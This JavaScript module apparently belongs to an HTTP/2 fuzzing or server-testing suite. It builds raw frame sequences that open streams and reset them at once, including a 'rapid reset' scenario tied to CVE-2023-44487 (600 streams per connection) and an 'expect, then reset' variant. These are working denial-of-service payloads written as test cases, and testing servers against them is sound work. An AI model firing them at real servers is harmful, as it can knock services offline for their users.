import { field, flags, frame, number, preface } from '../http2/frames.mjs'

const cancel = 8

/** Streams of HTTP/2, each of which is reset as soon as it is opened; `more` are further headers. */
function opened(count, more) {
  const fields = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':authority', 'fuzz.example'],
    [':path', '/reset?answer=ok'],
    ...more,
  ]
  const block = fields.map(([name, value]) => field(name, value)).join('')
  const pairs = Array.from({ length: count }, (_, index) => {
    const id = 2 * index + 1
    return frame('headers', flags.endHeaders, id, block) + frame('reset', 0, id, number(cancel))
  })
  return preface + frame('settings', 0, 0) + pairs.join('')
}

const expecting = opened(30, [['expect', '100-continue']])
const rapid = opened(600, [])

/** A few streams on each connection that ask for permission to send a body, and are reset in the same read. */
export const expectThenReset = {
  name: 'expect, then reset',
  connections: 8,
  steps: () => [{ write: expecting }, { pause: 100 }, 'close'],
}

/** As many streams as a connection may reset, and more, on connection after connection (CVE-2023-44487). */
export const rapidReset = {
  name: 'rapid reset',
  connections: 4,
  steps: () => [{ write: rapid }, { pause: 1000 }, 'close'],
}
